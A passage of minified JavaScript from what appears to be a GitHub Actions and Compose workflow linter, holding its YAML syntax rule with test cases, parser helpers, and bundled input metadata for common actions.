s=Dl(e),i=Fl(n,t);return!!s&&!!i&&(i.experimentalAll||i.experimental.has(s.toLowerCase()))}};var US={id:"yaml-syntax",language:["workflow","action","compose"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"The file must be valid YAML, in UTF-8, with every alias naming an anchor above it. What GitHub and Compose read but stricter YAML tools refuse (a quoted string continued on a line indented no deeper than its key) is a warning.",why:"GitHub and Docker Compose refuse a file that does not parse; nothing else in it can be checked until it does. One problem gives one finding: the errors a stray quote causes further on are left out. Their loaders do not check how far the lines of a quoted string are indented; Slipway reads such a string as they do, and checks the rest of the file.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
   steps:
      - run: echo hi
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: echo "hi"
`},check({model:n,report:e}){for(let t of n.errors)e({message:t.code==="NOT_UTF8"?t.message:`YAML: ${t.message}`,range:t.range});for(let t of n.warnings)e({message:`YAML: ${t.message}`,range:t.range,severity:"warning"})},tests:[{name:"bad indentation",input:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
   steps: []
`,expect:[{line:5}]},{name:"unterminated flow",input:`on: [push
jobs: {}
`,expect:[{line:2,message:"end with a ]"}]},{name:"tab indentation",input:`on: push
jobs:
	build: {}
`,expect:[{line:3}]},{name:"a double-quoted string continued on a line indented less than its key: one warning there (GitHub reads it)",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: "echo one
 two"
      - run: echo three
      - run: echo "four"
`,expect:[{line:7,col:2,message:"continues the quoted string of line 6 but is indented no deeper than its key",severity:"warning"}]},{name:"a single-quoted string continued at column 0, and one with a blank line",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - name: 'build
all'
        run: "make

  all"
`,expect:[{line:7,col:1,message:"quoted string of line 6",severity:"warning"},{line:10,col:3,message:"quoted string of line 8",severity:"warning"}]},{name:"a quoted string continued deeper than its key",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: "echo one
          two"
`,expect:[]},{name:"a stray quote: one error, none of the errors it causes further on",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: "echo one
 two
      - run: echo three
      - run: echo "four"
      - name: x
        run: echo five
  b:
    runs-on: ubuntu-latest
    steps:
      - run: echo six
`,expect:[{line:6,col:23,message:'Missing closing "quote',severity:"error"}]},{name:"two problems under different top-level keys: one error each",input:`on: [push
env:
  A: 1
jobs:
  a:
    runs-on: ubuntu-latest
   steps: []
`,expect:[{line:2,message:"end with a ]"},{line:7}]},{name:"an alias of an anchor defined nowhere",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env: *creds
    steps:
      - run: echo
`,expect:[{line:5,col:10,message:'unknown anchor "creds": no "&creds" is defined before this alias',severity:"error"}]},{name:"an alias before its anchor",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    env: *e
    steps:
      - run: echo
        env: &e
          A: 1
`,expect:[{line:5,col:10,message:'alias "*e" comes before its anchor "&e" (line 8)'}]},{name:"CR line ends",input:"on: push\rjobs:\r  a:\r    runs-on: ubuntu-latest\r    steps:\r      - run: |\r          echo hi\r",expect:[]},{name:"CR line ends: errors on the lines editors show",input:"on: push\rjobs:\r  a:\r    runs-on: ubuntu-latest\r   steps: []\r",expect:[{line:5,col:1,message:"All mapping items must start at the same column"}]},{name:"UTF-16 read as UTF-8: one finding",input:`\uFFFD\uFFFDo\0n\0:\0 \0p\0u\0s\0h\0
\0`,expect:[{line:1,col:1,message:"The file is UTF-16, not UTF-8: GitHub and Docker Compose read YAML files as UTF-8; save it as UTF-8"}]},{name:"a UTF-8 byte order mark",input:`\uFEFFon: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo hi
`,expect:[]},{name:"valid",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo hi
`,expect:[]}]},zm=US;var bo=[zm];var HS=/(?:^|\s)#\s*slipway-ignore(-next-line)?\b(?:\s*[:=]\s*([\w\-, ]+))?/;function YS(n){return n.memoize("suppressions",()=>{let e=new Map;return n.text.includes("slipway-ignore")&&n.text.split(`
`).forEach((s,i)=>{let r=HS.exec(s);if(!r)return;let o=s.trimStart().startsWith("#"),a=r[1]||o?i+1:i,c=(r[2]??"").split(/[,\s]+/).map(u=>u.trim().toLowerCase()).filter(Boolean),l=e.get(a);l||e.set(a,l=new Set),c.length===0&&l.add("*");for(let u of c)l.add(u)}),e})}function wo(n,e,t){let s=YS(n).get(e.range.start.line);return s?s.has("*")?!0:cf(t).some(i=>s.has(i.toLowerCase())):!1}var Hb=ie(gt());var y_=Symbol.for("yaml.node.type"),b_=Symbol.for("yaml.alias");var Ib=Symbol.for("yaml.map"),w_=Symbol.for("yaml.pair"),v_=Symbol.for("yaml.scalar"),Pb=Symbol.for("yaml.seq"),vs=n=>n&&typeof n=="object"?n[y_]:void 0,Me=n=>vs(n)===b_;var L=n=>vs(n)===Ib,Ae=n=>vs(n)===w_,F=n=>vs(n)===v_,G=n=>vs(n)===Pb,ks=n=>{let e=vs(n);return e===Ib||e===Pb};var mp=ie(gt());var k_=20,x_=100;function gp(n){return n.includes("\r")?n.replace(/\r(?!\n)/g,`
`):n}function jb(n,e){let t=gp(n),s=(0,mp.parseDocument)(t,e),i=[],r=[];if(s.errors.length===0||s.errors.length>x_)return{doc:s,quotes:i};let o=t,a=new Set;for(let c=0;c<k_;c++){let l=R_(s,o,r,a);if(!l)break;a.add(l.quote.open);let u=[...r,...l.insertions].sort((f,h)=>f.at-h.at),p=M_(t,u),d=(0,mp.parseDocument)(p,e);if(!d.errors.some(f=>xs(f.pos[0],u)<=l.end)&&(r.splice(0,r.length,...u),o=p,s=d,i.push(l.quote),s.errors.length===0))break}return r.length&&A_(s,r),i.sort((c,l)=>c.open-l.open),{doc:s,quotes:i}}function R_(n,e,t,s){let i=n.errors.filter(o=>o.code==="MISSING_CHAR"&&/^Missing closing ["']quote/.test(o.message));if(!i.length)return;let r=O_(n);for(let o of i){let a=r.find(w=>w.range&&w.range[0]<o.pos[0]&&o.pos[0]<=w.range[2]);if(!a?.range)continue;let c=a.range[0],l=e[c];if(l!=='"'&&l!=="'")continue;let u=xs(c,t);if(s.has(u))continue;let p=S_(e,c);if(p<0)continue;let d=e.lastIndexOf(`
`,c)+1,f=c-d,h=[],m;for(let w=e.indexOf(`
`,c);w>=0&&w<p;w=e.indexOf(`
`,w+1)){let v=w+1,O=v;for(;e[O]===" "||e[O]==="	";)O++;if(!(O>p||e[O]===`
`||e[O]==="\r")&&!(O-v>=f)&&(h.push({at:xs(v,t),n:f-(O-v)}),!m)){let S=e.indexOf(`
`,v);S<0&&(S=e.length),e[S-1]==="\r"&&S--,m=[xs(v,t),xs(S,t)]}}if(!h.length||!m)continue;let g=e.indexOf(`
`,p);return g<0&&(g=e.length),{quote:{open:u,line:m},insertions:h,end:xs(g,t)}}}function O_(n){let e=[],t=s=>{if(F(s))(s.type==="QUOTE_DOUBLE"||s.type==="QUOTE_SINGLE")&&e.push(s);else if(ks(s))for(let i of s.items)t(i);else Ae(s)&&(t(s.key),t(s.value))};return t(n.contents),e}function S_(n,e){let t=n[e];for(let s=e+1;s<n.length;s++){let i=n[s];if(t==='"'&&i==="\\"){s++;continue}if(i===t){if(t==="'"&&n[s+1]==="'"){s++;continue}return s}if(i===`
`&&(n.startsWith("---",s+1)||n.startsWith("...",s+1))&&/^(?:[ \t\r\n]|$)/.test(n.slice(s+4,s+5)))return-1}return-1}function M_(n,e){let t="",s=0;for(let{at:i,n:r}of e)t+=n.slice(s,i)+" ".repeat(r),s=i;return t+n.slice(s)}function xs(n,e){let t=0;for(let{at:s,n:i}of e){if(n<s+t)break;if(n<s+t+i)return s;t+=i}return n-t}function A_(n,e){let t=[],s=[],i=0;for(let{at:c,n:l}of e)t.push(c+i),i+=l,s.push(i);let r=c=>{let l=0,u=t.length;for(;l<u;){let d=l+u>>1;t[d]<=c?l=d+1:u=d}if(l===0)return c;let p=l-1;return c<t[p]+e[p].n?e[p].at:c-s[p]},o=c=>{if(c)for(let l=0;l<c.length;l++)c[l]=r(c[l])},a=c=>{if(Me(c)||F(c))o(c.range);else if(ks(c)){o(c.range);for(let l of c.items)a(l)}else Ae(c)&&(a(c.key),a(c.value))};a(n.contents),o(n.range);for(let c of[...n.errors,...n.warnings])o(c.pos)}var qb=new WeakMap;function N_(n){let e=qb.get(n);if(e)return e;let t=new Map,s=new Map,i=r=>{if(Me(r)){t.set(r,s.get(r.source));return}if(F(r)||L(r)||G(r)){if(r.anchor&&s.set(r.anchor,r),F(r))return;for(let o of r.items)i(o)}else Ae(r)&&(i(r.key),i(r.value))};return i(n.contents),qb.set(n,e=t),e}function sn(n,e){let t=N_(n);return t.has(e)?t.get(e):e.resolve(n)}var Rs=class{doc;lines;errors;warnings=[];memo=new Map;text;constructor(e){let t=gp(e);this.text=t,this.lines=new Vn(t);let s=E_,i=F_(t),r=!i&&__(t)>Ub,o=Error.stackTraceLimit;Error.stackTraceLimit=0;let a=[];if(!r&&!i)try{({doc:this.doc,quotes:a}=jb(t,s))}catch(l){if(!(l instanceof RangeError))throw l;r=!0}finally{Error.stackTraceLimit=o}Error.stackTraceLimit=o,(r||i)&&(this.doc=(0,Hb.parseDocument)("",s));let c=this.doc.errors.slice(0,Ci).map(l=>({message:L_(l.message),code:l.code,range:this.lines.range(l.pos[0],Math.max(l.pos[1],l.pos[0]+1))}));this.errors=[...$_(this.lines,c),...D_(this)].sort((l,u)=>Ps(l.range.start,u.range.start)),this.doc.errors.length>Ci&&(this.doc.errors.length=Ci),this.doc.warnings.length>Ci&&(this.doc.warnings.length=Ci),r&&this.errors.push({message:`The document nests collections more than ${Ub} levels deep: not read`,code:"NESTING_TOO_DEEP",range:this.lines.range(0,Math.min(1,t.length))}),i&&this.errors.push({message:i,code:"NOT_UTF8",range:this.lines.range(0,Math.min(1,t.length))});for(let l of a){let u=this.lines.positionAt(l.open).line+1;this.warnings.push({message:`this line continues the quoted string of line ${u} but is indented no deeper than its key: GitHub and Compose read it as one string, stricter YAML tools reject the file; indent it further`,code:"QUOTE_CONTINUATION_INDENT",range:this.lines.range(l.line[0]+T_(t,l.line[0]),l.line[1])})}}memoize(e,t){let s=this.memo.get(e);if(s!==void 0||this.memo.has(e))return s;let i=t();return this.memo.set(e,i),i}get root(){return L(this.doc.contents)?this.doc.contents:void 0}rangeOf(e){if(!e)return this.lines.range(0,0);if(Ae(e)){let s=e.key,i=e.value,r=s?.range?.[0]??i?.range?.[0]??0,o=i?.range?.[1]??s?.range?.[1]??r;return this.lines.range(r,o)}let t=e.range;return t?this.lines.range(t[0],t[1]):this.lines.range(0,0)}keyRange(e){return this.rangeOf(e.key)}},E_={prettyErrors:!1,uniqueKeys:!1,strict:!1,merge:!0},Ci=1e3,Ub=256;function __(n){let e=0,t=[],s=0,i=0,r=n.length;for(;i<r;){let o=i;for(;o<r&&n.charCodeAt(o)===32;)o++;let a=n.charCodeAt(o);if(o<r&&a!==10&&a!==13&&a!==35){for(;t.length&&t[t.length-1]>=o-i;)t.pop();for(t.push(o-i);n.charCodeAt(o)===45&&(n.charCodeAt(o+1)===32||n.charCodeAt(o+1)===9);){for(o+=2;n.charCodeAt(o)===32||n.charCodeAt(o)===9;)o++;t.push(o-i)}t.length>e&&(e=t.length)}for(;;){if(yp.lastIndex=o,!yp.test(n)){o=r;break}o=yp.lastIndex-1;let c=n.charCodeAt(o);if(c===10||c===13)break;c===91||c===123?(s++,s>e&&(e=s)):s>0&&s--,o++}i=o+1}return e}var yp=/[\n\r[\]{}]/g;function $_(n,e){if(e.length<2)return e;let t=[...e].sort((o,a)=>Ps(o.range.start,a.range.start)),s=new Set;for(let o of t)s.add(o.range.start.line);let i=[],r=-1;for(let o of t){let a=o.range.start.line;i.length===0||C_(n,r,a,s)?(i.push(o),r=Math.max(a,o.range.end.line)):r=Math.max(r,o.range.end.line)}return i}function C_(n,e,t,s){for(let i=e+1;i<t;i++){if(s.has(i))continue;let r=n.lineText(i).charCodeAt(0);if(r===r&&r!==32&&r!==9&&r!==35)return!0}return!1}function D_(n){if(!n.text.includes("*"))return[];let e=[],t=new Map,s=r=>{if(Me(r)){e.push(r);return}if((ks(r)||F(r))&&r.anchor&&!t.has(r.anchor)&&t.set(r.anchor,r),ks(r))for(let o of r.items)s(o);else Ae(r)&&(s(r.key),s(r.value))};s(n.doc.contents);let i=[];for(let r of e){if(sn(n.doc,r)||!r.range)continue;let o=t.get(r.source),a=o?.range?n.text.lastIndexOf(`&${r.source}`,o.range[0]):-1,c=a>=0?`alias "*${r.source}" comes before its anchor "&${r.source}" (line ${n.lines.positionAt(a).line+1}): an alias can only refer to an anchor defined above it`:`unknown anchor "${r.source}": no "&${r.source}" is defined before this alias`;i.push({message:c,code:"UNKNOWN_ANCHOR",range:n.lines.range(r.range[0],r.range[1])})}return i}function F_(n){let e=n.slice(0,512),t=0;for(let s=0;s<e.length;s++)e.charCodeAt(s)===0&&t++;if(e.startsWith("\uFFFD\uFFFD")||e.length>=4&&t*3>=e.length)return"The file is UTF-16, not UTF-8: GitHub and Docker Compose read YAML files as UTF-8; save it as UTF-8"}function T_(n,e){let t=e;for(;n[t]===" "||n[t]==="	";)t++;return t-e}function L_(n){return n.split(`
`)[0].replace(/ at line \d+, column \d+:?$/,"")}function ce(n){let e=n.key;if(F(e))return e.value===null?"null":String(e.value)}var _n=class extends Rs{constructor(t,s="workflow"){super(t);this.kind=s}kind};var I_={},Os={required:!0},Ce=(n,e="")=>{let t={};for(let s of n.split(/\s+/).filter(Boolean))t[s]=I_;for(let s of e.split(/\s+/).filter(Boolean))t[s]=Os;return t},bp={"actions/checkout":{current:"v5",minMajor:4,inputsSince:4,inputs:Ce("repository ref token ssh-key ssh-known-hosts ssh-strict ssh-user persist-credentials path clean filter sparse-checkout sparse-checkout-cone-mode fetch-depth fetch-tags show-progress lfs submodules set-safe-directory github-server-url"),outputs:["ref","commit"]},"actions/setup-node":{current:"v5",minMajor:4,inputsSince:4,inputs:Ce("always-auth node-version node-version-file architecture check-latest registry-url scope token cache cache-dependency-path mirror mirror-token package-manager-cache"),outputs:["cache-hit","node-version"]},"actions/setup-python":{current:"v6",minMajor:5,inputsSince:5,inputs:Ce("python-version python-version-file cache architecture check-latest token cache-dependency-path update-environment allow-prereleases freethreaded pip-version pip-install"),outputs:["python-version","cache-hit","python-path"]},"actions/setup-go":{current:"v6",minMajor:5,inputsSince:5,inputs:Ce("go-version go-version-file check-latest token cache cache-dependency-path architecture"),outputs:["go-version","cache-hit"]},"actions/setup-java":{current:"v5",minMajor:4,inputsSince:4,inputs:{...Ce("java-version java-version-file java-package architecture jdkFile check-latest server-id server-username server-password settings-path overwrite-settings gpg-private-key gpg-passphrase cache cache-dependency-path job-status token mvn-toolchain-id mvn-toolchain-vendor"),distribution:Os},outputs:["distribution","version","path","cache-hit"]},"actions/setup-dotnet":{current:"v5",minMajor:4,inputsSince:4,inputs:Ce("dotnet-version dotnet-quality global-json-file source-url owner config-file cache cache-dependency-path workloads architecture"),outputs:["cache-hit","dotnet-version"]},"actions/cache":{current:"v4",minMajor:4,inputsSince:4,inputs:{...Ce("restore-keys upload-chunk-size enableCrossOsArchive fail-on-cache-miss lookup-only save-always"),path:Os,key:Os},outputs:["cache-hit"]},"actions/upload-artifact":{current:"v4",minMajor:4,inputsSince:4,inputs:{...Ce("name if-no-files-found retention-days compression-level overwrite include-hidden-files"),path:Os},outputs:["artifact-id","artifact-url","artifact-digest"]},"actions/download-artifact":{current:"v5",minMajor:4,inputsSince:4,inputs:Ce("name artifact-ids path pattern merge-multiple github-token repository run-id"),outputs:["download-path"]},"actions/github-script":{current:"v8",minMajor:7,inputsSince:7,inputs:{...Ce("github-token debug user-agent previews result-encoding retries retry-exempt-status-codes base-url"),script:Os},outputs:["result"]},"actions/stale":{current:"v10",minMajor:8},"actions/labeler":{current:"v6",minMajor:5},"actions/configure-pages":{current:"v5",minMajor:3},"actions/upload-pages-artifact":{current:"v4",minMajor:3},"actions/deploy-pages":{current:"v4",minMajor:2},"actions/setup-ruby":{current:"v1",minMajor:99},"actions/create-release":{current:"v1",minMajor:99},"actions/upload-release-asset":{current:"v1",minMajor:99},"docker/login-action":{current:"v3",minMajor:3,inputsSince:3,inputs:Ce("registry username password ecr logout","")},"docker/setup-buildx-action":{current:"v3",minMajor:3,inputsSince:3,inputs:Ce("version driver driver-opts buildkitd-flags buildkitd-config buildkitd-config-inline install use name endpoint platforms append keep-state cache-binary cleanup"),outputs:["name","driver","platforms","nodes","endpoint","status","flags"]},"docker/setup-qemu-action":{current:"v3",minMajor:3,inputsSince:3,inputs:Ce("image platforms cache-image"),outputs:["platforms"]},"docker/build-push-action":{current:"v6",minMajor:5,inputsSince:5,inputs:Ce("add-hosts allow annotations attests build-args build-contexts builder cache-from cache-to call cgroup-parent context file labels load network no-cache no-cache-filters outputs platforms provenance pull push sbom secrets secret-envs secret-files shm-size ssh tags target ulimit github-token"),outputs:["imageid","digest","metadata"]},"docker/metadata-action":{current:"v5",minMajor:5,inputsSince:5,inputs:Ce("context images tags flavor labels annotations sep-tags sep-labels sep-annotations bake-target github-token"),outputs:["version","tags","labels","annotations","json","bake-file","bake-file-tags","bake-file-labels","bake-file-annotations"]},"aws-actions/configure-aws-credentials":{current:"v4",minMajor:3},"azure/login":{current:"v2",minMajor:2},"azure/aks-set-context":{current:"v4",minMajor:4},"rhysd/action-setup-vim":{current:"v1",inputsSince:1,inputs:Ce("version neovim configure-args token"),outputs:["executable","vim-dir"]},"pypa/gh-action-pypi-publish":{current:"release/v1",inputs:{...Ce("user password repository-url packages-dir verify-metadata skip-existing verbose print-hash attestations"),repository_url:{deprecated:"The inputs have been normalized to use kebab-case. Use `repository-url` instead"},packages_dir:{deprecated:"The inputs have been normalized to use kebab-case. Use `packages-dir` instead"},verify_metadata:{deprecated:"The inputs have been normalized to use kebab-case. Use `verify-metadata` instead"},skip_existing:{deprecated:"The inputs have been normalized to use kebab-case. Use `skip-existing` instead"},print_hash:{deprecated:"The inputs have been normalized to use kebab-case. Use `print-hash` instead"}}}},Di=new Map;function ct(n){let e=Di.get(n);if(e!==void 0||Di.has(n))return e;let t=/^(?![.$]\/)([^/@\s]+)\/([^/@\s]+)(\/[^@\s]*)?@([^\s]+)$/.exec(n);return e=t?Object.freeze({name:`${t[1]}/${t[2]}${t[3]??""}`,repo:`${t[1]}/${t[2]}`,path:t[3]?.slice(1),ref:t[4]}):void 0,Di.size>2e3&&Di.clear(),Di.set(n,e),e}function ba(n){let e=/^v?(\d+)(?:\.\d+)*$/.exec(n);return e?Number(e[1]):void 0}function Yb(n){return/^(?:[0-9a-f]{40}|[0-9a-f]{64})$/i.test(n)}function Wb(n){if(!n)return;let e=n.split(`
`,1)[0],t=/(?:^|[\s=@:/])(v\d+(?:\.\d+)*|\d+\.\d+(?:\.\d+)*)(?![\w.])/i.exec(e);return t?t[1]:void 0}var Fi,Ti=new Map;function wa(n){let e=Ti.get(n);if(e!==void 0||Ti.has(n))return e;let t=n.toLowerCase();if(!Fi){Fi=new Map;for(let s of Object.keys(bp))Fi.has(s.toLowerCase())||Fi.set(s.toLowerCase(),s)}return e=bp[t]??bp[Fi.get(t)??""],Ti.size>2e3&&Ti.clear(),Ti.set(n,e),e}var rn=ie(require("node:path"));var va=1e5;function T(n,e){let t=e;for(let s=0;s<8&&Me(t);s++)t=sn(n.doc,t);return Me(t)?void 0:t}function P(n){if(!F(n))return;let e=n.value;if(!(e==null||typeof e=="symbol"))return String(e)}var Bb=new WeakMap;function Y(n,e){return e?wp(e):new Map}function wp(n){let e=Bb.get(n);if(e)return e;e=new Map;for(let t of n.items){if(!Ae(t))continue;let s=P(t.key);s!==void 0&&!e.has(s)&&e.set(s,t)}return Bb.set(n,e),e}function de(n,e){let t=T(n,e?.value);return L(t)?t:void 0}function Gb(n,e){let t=T(n,e);if(!G(t))return[];let s=n.memoize("wfs:stepsBySeq",()=>new WeakMap),i=s.get(t);if(i)return i;s.set(t,i=[]);let r=i;return t.items.forEach((o,a)=>{let c=T(n,o);if(!L(c))return;let l=Y(n,c),u=h=>{let m=T(n,l.get(h)?.value);return F(m)?m:void 0},p=u("id"),d=u("uses"),f=u("run");r.push({index:a,node:c,id:P(p),idNode:p,name:P(u("name")),uses:P(d),usesNode:d,run:P(f),runNode:f,shellNode:u("shell"),with:de(n,l.get("with")),pairs:l})}),i}function K(n){return n.memoize("wfs:structure",()=>{let e={events:[],jobs:[],jobById:new Map,actionSteps:[]},t=T(n,n.doc.contents);if(!L(t))return e;e.root=t;let s=Y(n,e.root);if(n.kind==="action")return e.runs=de(n,s.get("runs")),e.runs&&(e.actionSteps=Gb(n,Y(n,e.runs).get("steps")?.value)),e;let i=T(n,s.get("on")?.value);if(e.on=i??void 0,F(i)&&typeof i.value=="string")e.events.push({name:i.value,node:i});else if(G(i))for(let a of i.items){let c=T(n,a);F(c)&&typeof c.value=="string"&&e.events.push({name:c.value,node:c})}else if(L(i))for(let a of i.items){let c=P(a.key);c!==void 0&&F(a.key)&&e.events.push({name:c,node:a.key,config:T(n,a.value)??void 0})}let r=de(n,s.get("jobs"));e.jobsNode=r;for(let a of r?.items??[]){if(!Ae(a)||!F(a.key))continue;let c=P(a.key);if(c===void 0)continue;let l=T(n,a.value),u=L(l)?l:void 0,p=Y(n,u),d=[],f=T(n,p.get("needs")?.value);if(F(f)&&P(f))d.push({name:P(f),node:f});else if(G(f))for(let g of f.items){let w=T(n,g);F(w)&&P(w)&&d.push({name:P(w),node:w})}let h=T(n,p.get("uses")?.value),m={id:c,keyNode:a.key,keyRange:n.keyRange(a),node:u,pairs:p,needs:d,uses:P(h),usesNode:F(h)?h:void 0,steps:Gb(n,p.get("steps")?.value),runsOn:T(n,p.get("runs-on")?.value)??void 0};e.jobs.push(m),e.jobById.has(c.toLowerCase())||e.jobById.set(c.toLowerCase(),m)}let o=0;for(let a of e.jobs)o+=a.steps.length;if(o>va){let a=0;for(let c of e.jobs)e.stepsLeftOut||a+c.steps.length>va?(e.stepsLeftOut??={total:o,firstJobLeftOut:c},c.steps=[]):a+=c.steps.length}return e})}function xe(n){return n.memoize("wfs:allSteps",()=>{let e=K(n);return n.kind==="action"?e.actionSteps.map(t=>({step:t})):e.jobs.flatMap(t=>t.steps.map(s=>({job:t,step:s})))})}function yt(n,e){if(!n)return;let t=n.replace(/\\/g,"/"),s=t.lastIndexOf("/.github/workflows/");if(s>=0)return t.slice(0,s)||"/";let i=rn.posix.dirname(t);for(let r=0;r<12;r++){if(e.exists(rn.posix.join(i,".github"))||e.exists(rn.posix.join(i,".git")))return i;let o=rn.posix.dirname(i);if(o===i)break;i=o}}function Ve(n){let e=n.trim();if(e==="."||e.startsWith("./"))return{kind:"workspace",path:e.slice(2)};if(e.startsWith("$/"))return{kind:"self",path:e.slice(2)}}function vp(n,e){let t=new Map;for(let s of e.with?.items??[]){let i=P(s.key);i!==void 0&&t.set(i.toLowerCase(),P(T(n,s.value)))}return t}function xa(n,e,t,s){let i;for(let r of e.slice(0,t)){let o=r.uses?.trim();if(!o||ct(o)?.name.toLowerCase()!=="actions/checkout")continue;let a=vp(n,r),c=(a.get("path")??"").trim().replace(/^\.\/?/,"").replace(/\/+$/,"");if(c===""||c.includes("${{")||s!==c&&!s.startsWith(c+"/"))continue;let l=a.get("repository")?.trim();i={folder:c,rest:s.slice(c.length+1),thisRepository:!l||/^\$\{\{\s*github\.repository\s*\}\}$/.test(l)}}return i}function Vb(n){return Ve(n)?.path??n}var ka=new Map;function zb(n,e,t){let s=ka.get(n);if(s&&s.text===e)return s.value;let i=t();return ka.size>64&&ka.clear(),ka.set(n,{text:e,value:i}),i}function kp(n,e,t){let s=rn.posix.join(n,Vb(e));for(let i of["action.yml","action.yaml"]){let r=rn.posix.join(s,i),o=t.readFile(r);if(o!==void 0)return zb(r,o,()=>{let a=new _n(o,"action"),c=Y(a,a.root),l=new Map;for(let d of de(a,c.get("inputs"))?.items??[]){let f=P(d.key);if(f===void 0)continue;let h=T(a,d.value),m=L(h)?Y(a,h):new Map,g=T(a,m.get("required")?.value);l.set(f.toLowerCase(),{name:f,required:F(g)&&(g.value===!0||g.value==="true"),hasDefault:m.has("default")})}let u=(de(a,c.get("outputs"))?.items??[]).map(d=>P(d.key)).filter(d=>!!d),p=P(T(a,Y(a,de(a,c.get("runs"))).get("using")?.value));return{file:r,inputs:l,outputs:u,using:p}})}}function Kb(n,e,t){let s=rn.posix.join(n,Vb(e)),i=t.readFile(s);if(i!==void 0)return zb(s,i,()=>{let r=new _n(i,"workflow"),a=K(r).events.find(l=>l.name==="workflow_call"),c={file:s,callable:!!a,inputs:new Map,secrets:new Map,outputs:[]};if(a&&L(a.config)){let l=Y(r,a.config);for(let[u,p]of[["inputs",c.inputs],["secrets",c.secrets]])for(let d of de(r,l.get(u))?.items??[]){let f=P(d.key);if(f===void 0)continue;let h=T(r,d.value),m=L(h)?Y(r,h):new Map,g=T(r,m.get("required")?.value);p.set(f.toLowerCase(),{name:f,required:F(g)&&g.value===!0,hasDefault:m.has("default"),type:P(T(r,m.get("type")?.value))})}c.outputs=(de(r,l.get("outputs"))?.items??[]).map(u=>P(u.key)).filter(u=>!!u)}return c})}function Jb(n,e){let t=n.text,s=e;for(;s>0&&/\s/.test(t[s-1]);)s--;let i=t.indexOf(`
`,s);return i<0?{offset:t.length,needsNewline:!0}:{offset:i+1,needsNewline:!1}}function Zb(n){return n.memoize("stepEdit:aliasedAnchors",()=>{let e=new Set,t=s=>{if(Me(s))e.add(s.source);else if(L(s)||G(s))for(let i of s.items)t(i);else Ae(s)&&(t(s.key),t(s.value))};return t(n.doc.contents),e})}function Qb(n,e){let t=e?.anchor;return!!t&&Zb(n).has(t)}function Li(n,e){if(!Zb(n).size)return!1;let t=i=>{let r=i?.range;return!!r&&r[0]<=e&&e<r[1]},s=n.doc.contents;for(let i=0;s&&i<1e3;i++){if(Qb(n,s))return!0;let r;if(L(s)){for(let o of s.items)if(t(o.key)?r=o.key:t(o.value)&&(r=o.value),r)break}else G(s)&&(r=s.items.find(t));s=r}return!1}function Xb(n,e){if(!F(e))return!1;let t=e;if(t.type!=="BLOCK_LITERAL"&&t.type!=="BLOCK_FOLDED")return!1;let s=t.range?.[0]??0,i=n.text.indexOf(`
`,s),r=n.text.slice(s,i<0?n.text.length:i);return/^[|>][0-9]?\+/.test(r)}function Ra(n,e,t,s,i=s){if(e.node.flow||!s.length||Li(n,e.node.range?.[0]??-1))return;let r=e.pairs.get(t),o=u=>n.lines.range(u,u);if(r){if(Me(r.value))return;let u=T(n,r.value);if(Qb(n,u))return;if(L(u)&&u.flow){let p=u,d=(p.range?.[1]??0)-1;if(n.text[d]!=="}")return;let f=d;for(;f>0&&/\s/.test(n.text[f-1]);)f--;let h=!p.items.length||n.text[f-1]===","?" ":", ";return{range:o(f),newText:`${h}${i.join(", ")}${p.items.length?"":" "}`}}if(L(u)&&u.items.length){let p=u,d=p.items[p.items.length-1];if(Xb(n,d.value))return;let f=n.rangeOf(p.items[0].key).start.character,h=Jb(n,p.range?.[1]??0);return{range:o(h.offset),newText:`${h.needsNewline?`
`:""}${s.map(m=>" ".repeat(f)+m+`
`).join("")}`}}if(u==null||F(u)&&u.value===null){let p=r.key.range?.[1]??0,d=n.text.indexOf(`
`,p),f=n.rangeOf(r.key).start.character+2;return{range:o(d<0?n.text.length:d),newText:s.map(h=>`
${" ".repeat(f)}${h}`).join("")}}return}let a=e.node.items[0];if(!a||Xb(n,e.node.items[e.node.items.length-1].value))return;let c=n.rangeOf(a.key).start.character,l=Jb(n,e.node.range?.[1]??0);return{range:o(l.offset),newText:`${l.needsNewline?`
`:""}${" ".repeat(c)}${t}:
${s.map(u=>" ".repeat(c+2)+u+`
`).join("")}`}}function P_(n,e,t){if(!t.length)return;let s=Ra(n,e,"with",t.map(i=>`${i}: ''`));return s?[{title:`Add required input${t.length>1?"s":""} ${t.join(", ")}`,edits:[s]}]:void 0}var ew=new WeakMap;function j_(n){let e=ew.get(n);return e||(e=new Map(Object.entries(n.inputs).map(([t,s])=>[t.toLowerCase(),{name:t,required:!!s.required,hasDefault:!1,deprecated:s.deprecated}])),ew.set(n,e)),e}var q_={id:"action-inputs",language:["workflow","action"],severity:"warning",compat:{actionlint:"action"},docs:{summary:"`with:` of a step must match the inputs of its action: required inputs given, no unknown inputs, no deprecated ones. Local actions (`uses: ./path` or `uses: $/path`) are read from their `action.yml`; popular actions (checkout, setup-*, cache, artifacts, docker/*, github-script, \u2026) from bundled metadata, for the major the ref names (for a commit SHA, the version in its trailing comment such as `# v4.1.1`; without one it is not checked).",why:'GitHub checks neither: an unknown input only earns an "Unexpected input" line in the log (a typo such as `node_version` means the default is used), and a required input that is not given reaches the action as an empty string, which most actions reject at run time. Both are probably mistakes, hence warnings.',bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-node@v4
        with:
          node_version: 20
      - uses: actions/setup-java@v4
        with:
          java-version: 21
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/setup-node@v4
        with:
          node-version: 20
      - uses: actions/setup-java@v4
        with:
          distribution: temurin
          java-version: 21
